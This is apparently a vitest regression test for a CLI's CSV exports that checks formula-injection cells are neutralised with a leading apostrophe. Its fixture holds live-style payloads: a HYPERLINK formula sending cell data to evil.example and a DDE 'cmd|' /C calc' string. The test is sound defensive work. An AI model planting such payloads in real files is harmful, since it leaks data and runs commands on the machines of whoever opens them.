import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { pushpullIn } from '../support/run-pushpull';

// Finding 12 of issue 14: CSV formula injection. A name or department starting with `=`, `+`, `-` or `@` in the
// org chart reached `report --format csv` and `org export` as it was: a spreadsheet opening them runs it.

const cli = pushpullIn('security-csv');
const dir = cli.dir;
afterAll(cli.remove);

function pushpull(args: string[]) {
  const r = cli.run(args);
  expect(r.stderr).not.toMatch(/pushpull \w+( \w+)?: .*\[/); // no error
  expect(r.code).toBe(0);
  return r.stdout;
}

/** The cells of an RFC 4180 CSV text. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  return out;
}

/** Cells a spreadsheet would run as a formula (a plain number like -0.25 is none). */
const formulas = (csv: string) =>
  cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c));

describe('CSV output neutralises formulas', () => {
  writeFileSync(
    join(dir, 'org.csv'),
    [
      'email,name,manager_email,title,department',
      'ceo@acme.example,"=HYPERLINK(""http://evil.example/?""&A1,""open"")",,CEO,@SUM(1+1)',
      "lead@acme.example,+cmd|' /C calc'!A0,ceo@acme.example,-2+3,Eng",
      'dev@acme.example,Dev,lead@acme.example,,Eng',
      '',
    ].join('\n'),
  );

  it('org export', () => {
    pushpull(['org', 'import', 'org.csv']);
    const csv = pushpull(['org', 'export']);
    expect(formulas(csv)).toEqual([]);
    expect(cells(csv)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
    expect(cells(csv)).toContain("'@SUM(1+1)");
  });

  it('report --org and --leader --format csv', () => {
    const org = pushpull(['report', '--org', '--period', 'last-90d', '--format', 'csv']);
    expect(cells(org)).toContain("'+cmd|' /C calc'!A0");
    expect(formulas(org)).toEqual([]);
    const leader = pushpull([
      'report',
      '--leader',
      'lead@acme.example',
      '--period',
      'last-90d',
      '--format',
      'csv',
    ]);
    expect(cells(leader)).toContain("'+cmd|' /C calc'!A0");
    expect(formulas(leader)).toEqual([]);
  });

  it('org identities (a linked account named like a formula)', () => {
    writeFileSync(join(dir, 'links.csv'), 'kind,value,email\ngithub_login,=cmd,dev@acme.example\n');
    pushpull(['org', 'identities', 'import', 'links.csv']);
    const csv = pushpull(['org', 'identities']);
    expect(cells(csv)).toContain("'=cmd");
    expect(formulas(csv)).toEqual([]);
  });
});
